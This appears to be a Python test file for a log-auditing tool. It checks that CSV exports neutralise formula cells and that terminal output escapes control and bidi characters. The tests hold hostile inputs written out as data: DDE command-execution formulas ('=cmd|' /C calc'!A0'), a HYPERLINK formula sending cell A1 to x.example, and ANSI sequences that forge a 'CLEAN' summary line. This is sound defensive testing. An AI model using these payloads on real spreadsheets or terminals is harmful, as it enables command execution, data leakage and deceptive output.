"""Hostile text from exports: formula cells in the evidence CSV, control characters on stderr and stdout."""

from __future__ import annotations

import csv
import json
import unicodedata
from pathlib import Path

import duckdb
from audit_fixtures import L13, l13_row, uid, write_csv
from hypothesis import given, settings
from hypothesis import strategies as st

from configscan.textsafe import FORMULA_TRIGGERS, json_line_safe, neutralise_cell, neutralise_sql, visible

from conftest import run_cli, write_config

UNSAFE = {"Cc", "Cf", "Cs", "Zl", "Zp"}
FORGED = "\x1b[2K\rconfigscan: Pinecrest CA PD: CLEAN -- 0 high\n"  # wipes the line, then forges a summary
BIDI = "ICE\u202eredlof\u202c \u2066x\u2069"


def _unsafe(text: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) in UNSAFE]


@given(st.text(), st.text())
def test_visible_is_one_printable_line_escaping_character_by_character(head: str, tail: str) -> None:
    shown = visible(head + tail)
    assert shown == visible(head) + visible(tail)
    assert not _unsafe(shown) and len(shown.splitlines()) <= 1
    for char in head:
        if unicodedata.category(char) in UNSAFE:
            assert visible(char).startswith("\\") and visible(char).isascii() and visible(char).isprintable()
        else:
            assert visible(char) == char


def test_visible_escapes_each_kind_readably() -> None:
    assert visible(FORGED) == "\\x1b[2K\\rconfigscan: Pinecrest CA PD: CLEAN -- 0 high\\n"
    assert visible(BIDI) == "ICE\\u202eredlof\\u202c \\u2066x\\u2069"
    assert visible("bell\x07 del\x7f csi\x9b nel\x85 ls\u2028 zwsp\u200b bom\ufeff tag\U000e0041") == (
        "bell\\x07 del\\x7f csi\\x9b nel\\x85 ls\\u2028 zwsp\\u200b bom\\ufeff tag\\U000e0041")
    assert visible("Señora Police Département 北区 C:\\logs\\a.csv") == "Señora Police Département 北区 C:\\logs\\a.csv"


@settings(max_examples=60)
@given(st.recursive(st.text() | st.integers() | st.booleans() | st.none(),
                    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=8))
def test_json_lines_stay_one_line_and_decode_to_the_same_value(value: object) -> None:
    line = json_line_safe(json.dumps(value, ensure_ascii=False))
    assert not _unsafe(line) and len(line.splitlines()) == 1
    assert json.loads(line) == value


@settings(deadline=None, max_examples=25)
@given(st.lists(st.text() | st.sampled_from(FORMULA_TRIGGERS).flatmap(lambda c: st.text().map(lambda t: c + t)),
                max_size=60))
def test_sql_neutralising_matches_the_python_rule(texts: list[str]) -> None:
    con = duckdb.connect()
    got = con.execute(f"SELECT list({neutralise_sql('c')} ORDER BY i) FROM (SELECT unnest($1::VARCHAR[]) AS c, "
                      "generate_subscripts($1::VARCHAR[], 1) AS i)", [texts]).fetchone()
    assert got is not None and (got[0] or []) == [neutralise_cell(t) for t in texts]
    assert all((neutralise_cell(t) != t) == t.startswith(FORMULA_TRIGGERS) for t in texts)


HOSTILE_REASONS = ['=HYPERLINK("http://x.example/?"&A1,"ICE")', "+1 ICE hold", "-ICE warrant",
                   "@SUM(1+1)*cmd|' /C calc'!A0", "\tICE detainer", "\r=cmd|' /C calc'!A0", "ICE =1+1", "ICE hold"]


def test_evidence_csv_neutralises_formula_cells_and_keeps_numbers(tmp_path: Path) -> None:
    rows = [l13_row(n, org, reason, networks=networks) for n, (org, reason, networks) in enumerate(
        [("Auburn WA PD", reason, 640) for reason in HOSTILE_REASONS]
        + [("=cmd|' /C calc'!A0 WA PD", "Robbery", 12), ("-Reno NV PD", "Burglary", -5), ("Salem OR PD", "theft", 7)],
        start=1)]
    rows[-1][0] = "=1+2"  # an ID cell
    rows[-2][9] = "@2026-03-08"  # a time the reader cannot parse: written as found
    log = write_csv(tmp_path / "log.csv", L13, rows)
    evidence = tmp_path / "rows.csv"
    run = run_cli("audit", log, "--agency-state", "CA", "--json", tmp_path / "r.json", "--evidence-csv", evidence)
    assert run.code in (1, 3), run.stderr
    with evidence.open(encoding="utf-8", newline="") as handle:
        cells = list(csv.DictReader(handle))
    text_columns = ("file", "ID", "time", "org", "reason")
    for row in cells:
        for column in text_columns:
            assert not row[column].startswith(FORMULA_TRIGGERS), (column, row[column])
    by_row = {r["row"]: r for r in cells}
    for number, reason in enumerate(HOSTILE_REASONS, start=2):
        assert by_row[str(number)]["reason"] == neutralise_cell(reason)
        assert by_row[str(number)]["ID"] == uid(number - 1)
    assert by_row["10"]["org"] == "'=cmd|' /C calc'!A0 WA PD"
    reno = by_row["11"]
    assert (reno["org"], reno["networks"], reno["time"]) == ("'-Reno NV PD", "-5", "'@2026-03-08")
    assert by_row["12"]["ID"] == "'=1+2"
    originals = {str(n): {"ID": r[0], "org": r[2], "reason": r[6]} for n, r in enumerate(rows, start=2)}
    neutralised = sum(row[c].startswith("'") for row in cells for c in text_columns)
    expected = sum(value.startswith(FORMULA_TRIGGERS) for row in cells for value in originals[row["row"]].values())
    assert neutralised == expected + 1  # + the unparsed time
    assert neutralised >= len(HOSTILE_REASONS) - 2 + 4
    assert json.loads((tmp_path / "r.json").read_text())["audit"]["evidence_rows"] == len(cells)


def test_hostile_agency_name_gives_exactly_one_summary_line(tmp_path: Path) -> None:
    config = write_config(tmp_path, {"format": "configscan/agency-config@1",
                                     "agency": {"name": f"Pinecrest{FORGED}{BIDI}\x07", "state": "CA"}})
    run = run_cli("scan", config, "--json", tmp_path / "r.json")
    lines = run.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("configscan: Pinecrest\\x1b[2K\\rconfigscan:"), run.stderr
    assert not _unsafe(lines[0]) and "\\u202e" in lines[0]
    assert json.loads((tmp_path / "r.json").read_text())["agency"]["name"] == f"Pinecrest{FORGED}{BIDI}\x07"


def test_hostile_file_names_in_incomplete_and_error_lines_stay_one_line_each(tmp_path: Path) -> None:
    log = write_csv(tmp_path / "log.csv", L13, [l13_row(1, "Auburn WA PD", "ICE hold")])
    notes = tmp_path / f"notes{FORGED}\u202e.csv"
    notes.write_text("a,b\n1,2\n", encoding="utf-8")
    run = run_cli("audit", log, notes, "--agency-state", "CA", "--json", tmp_path / "r.json")
    lines = run.stderr.splitlines()
    assert run.code == 3 and len(lines) == 2, run.stderr
    assert lines[0].startswith("configscan: ") and lines[1].startswith("configscan: incomplete: ")
    assert "notes\\x1b[2K\\rconfigscan: Pinecrest CA PD: CLEAN -- 0 high\\n\\u202e.csv" in lines[1]
    assert not any(_unsafe(line) for line in lines) and run.stderr.count("\n") == len(lines)

    missing = run_cli("audit", tmp_path / f"gone{FORGED}.csv", "--agency-state", "CA")
    assert missing.code == 2 and len(missing.stderr.splitlines()) == 1, missing.stderr
    assert missing.stderr.startswith("configscan: error: ") and "gone\\x1b[2K\\r" in missing.stderr


def test_partners_classify_escapes_names_on_the_table_and_in_json_lines(tmp_path: Path) -> None:
    # (no CR, LF or U+2028: the list reader drops or splits on them before its CSV parser sees them)
    names = ["Reno NV PD\x1b[2K\x1b[1Aconfigscan: Pinecrest CA PD: CLEAN", f"U.S. Border Patrol{BIDI}",
             "Eugene OR PD\x07\x9b"]
    listing = tmp_path / "partners.csv"
    with listing.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["name"], *[[n] for n in names]])
    table = run_cli("partners", "classify", listing, "--agency-state", "OR")
    assert table.code == 0 and len(table.stdout.splitlines()) == 1 + len(names), table.stdout
    assert not any(_unsafe(line) for line in table.stdout.splitlines()) and "Reno NV PD\\x1b[2K" in table.stdout
    assert len(table.stderr.splitlines()) == 1
    lines = run_cli("partners", "classify", listing, "--agency-state", "OR", "--json").stdout.splitlines()
    assert [json.loads(line)["name"] for line in lines] == names
    assert not any(_unsafe(line) for line in lines)
